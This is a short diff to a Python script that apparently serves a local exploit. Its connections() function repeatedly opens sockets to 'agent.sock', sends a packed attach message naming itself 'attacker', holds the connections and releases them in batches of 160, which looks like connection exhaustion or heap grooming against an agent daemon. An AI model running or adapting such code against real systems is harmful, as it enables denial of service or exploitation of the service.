@@ -120,7 +120,7 @@ def clients():
 
 
 def connections():
-    """As many as can be, on agent.sock; each says what it is, and no more."""
+    """Many on agent.sock, again and again; each says what it is, and no more. Some are left for rings."""
     held = []
     attach = struct.pack("<IHHIIIIQ16s16s32s16s", MAGIC, 1, 112, 0x10002, 0, 1, 0, 1, b"", b"", b"attacker", b"")
     while True:
@@ -132,6 +132,9 @@ def connections():
             if s.recv(8192)[4:6] != b"\x02\0":
                 raise OSError
             held.append(s)
+            if len(held) == 160:
+                while held:
+                    held.pop().close()
         except OSError:
             s.close()
             pause(0.01)
